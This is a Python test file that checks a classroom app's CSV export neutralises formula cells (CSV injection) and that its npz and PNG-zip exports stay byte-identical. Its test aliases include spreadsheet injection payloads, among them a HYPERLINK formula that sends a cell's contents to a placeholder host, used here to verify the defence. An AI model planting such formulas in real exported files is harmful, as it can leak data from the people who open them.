"""The exports: CSV cells a spreadsheet would run as a formula are neutralised (OWASP's CSV-injection
rule); the npz and the zip of PNGs stay byte for byte what they were."""

import csv
import hashlib
import io
import time
from datetime import UTC, datetime

import numpy as np
import PIL
import pytest

from classroom import export
from classroom.records import Drawing

ALIASES = ['=HYPERLINK("http://example.com/?leak="&A1,"x")', "+1+2", "-2+3", "@SUM(A1)", "\tx", "\rx", "Kim"]


def drawings(aliases=(None,) * 12) -> list[Drawing]:
    rng = np.random.default_rng(7)
    return [
        Drawing(
            i + 1,
            i % 10,
            (i * 3) % 10,
            0.5 + i / 100,
            datetime(2026, 12, 1, 9, i, tzinfo=UTC),
            alias,
            False,
            rng.integers(0, 256, (28, 28), dtype=np.uint8),
            f"s{i % 3}",
        )
        for i, alias in enumerate(aliases)
    ]


def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote():
    rows = list(csv.reader(io.StringIO(export.to_csv(drawings(ALIASES)).decode(), newline="")))
    assert rows[0] == list(export.CSV_COLUMNS)
    assert [r[5] for r in rows[1:]] == ["'" + a for a in ALIASES[:-1]] + ["Kim"]
    assert rows[1][:4] == ["1", "0", "0", "0.5000"]  # numbers stay numbers


def test_csv_of_harmless_aliases_is_unchanged():
    shown = drawings(['Kim, "the" best', "a=b", "x-1", None])
    text = export.to_csv(shown).decode()
    assert 'Kim, ""the"" best' in text and ",a=b\r\n" in text and ",x-1\r\n" in text


# sha256 of the exports of drawings() as the release before the CSV change wrote them, zip times frozen.
# Deflate's output depends on zlib, numpy's and Pillow's versions: the bytes are compared where they match.
GOLDEN = {
    ("2.4.6", "13.0.0"): (
        "a8257fd23342517b8d1a7bc0611d56646de95caffd4b90717623e051b0bbdb72",
        "27cceeb01c8d65525c9422bba6052b5b5dfab3e2fd49f4fdf52730d9d2fd10ed",
    )
}


def test_npz_and_png_exports_are_byte_for_byte_as_before(monkeypatch):
    monkeypatch.setattr(time, "time", lambda: 1_800_000_000.0)  # the zip's file times
    shown = drawings(ALIASES + ["x"] * 5)
    npz, pngs = export.to_npz(shown), export.to_png_zip(shown)
    with np.load(io.BytesIO(npz)) as arrays:  # the content, whatever the library versions
        assert np.array_equal(arrays["x_test"], np.stack([d.pixels for d in shown]))
        assert arrays["ids"].tolist() == list(range(1, 13))
    golden = GOLDEN.get((np.__version__, PIL.__version__))
    if golden is None:
        pytest.skip(f"no recorded bytes for numpy {np.__version__}, Pillow {PIL.__version__}")
    assert (hashlib.sha256(npz).hexdigest(), hashlib.sha256(pngs).hexdigest()) == golden
